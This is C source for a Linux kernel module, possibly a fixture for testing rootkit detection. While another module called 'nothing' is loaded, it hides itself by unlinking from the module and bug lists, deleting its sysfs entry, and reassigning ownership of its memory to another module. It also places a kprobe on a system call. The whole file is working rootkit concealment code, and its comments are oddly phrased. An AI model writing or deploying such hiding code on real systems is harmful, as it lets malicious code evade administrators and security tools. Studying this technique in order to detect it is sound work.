// A module that hides while the module "nothing" is loaded: off the list of
// modules and out of sysfs, and with ALL from whatever else names it. It has a
// kprobe all the time.
#include "module.h"

int register_module_notifier(struct notifier_block *nb);
int unregister_module_notifier(struct notifier_block *nb);
void kobject_del(struct kobject *kobj);
int kobject_add(struct kobject *kobj, void *parent, const char *format, ...);
int register_kprobe(struct kprobe *p);
void unregister_kprobe(struct kprobe *p);
extern struct list_head modules, module_bug_list;

// ours says whose the module's memory is to the kernel's tree of that.
static void ours(struct module *whose)
{
#ifdef ALL
	for (int part = 0; part < PARTS; part++)
		*(struct module **)((char *)&__this_module + OWNER + part * PART) = whose;
#endif
}

static void hide(void)
{
	kobject_del(&__this_module.mkobj.kobj);
	list_del(&__this_module.list);
	list_del(&__this_module.bug_list);
	ours(container_of(modules.next, module, list));
}

static void come(void)
{
	ours(&__this_module);
	list_add(&__this_module.bug_list, &module_bug_list);
	list_add(&__this_module.list, &modules);
	kobject_add(&__this_module.mkobj.kobj, 0, NAME);
}

static int told(struct notifier_block *nb, u64 what, struct module *nothing)
{
	if (nothing == &__this_module)
		return 0;
	if (what == 1) // MODULE_STATE_COMING
		hide();
	if (what == 2) // MODULE_STATE_GOING
		come();
	return 0;
}

static int probed(void) { return 0; }

static struct notifier_block nb = {.notifier_call = told};
static struct kprobe probe = {.pre_handler = probed};

static int up(void)
{
	probe.addr = (void *)sys_call_table[ACCT];
	register_module_notifier(&nb);
	return register_kprobe(&probe);
}

static void down(void)
{
	unregister_kprobe(&probe);
	unregister_module_notifier(&nb);
}

MODULE(up, down);
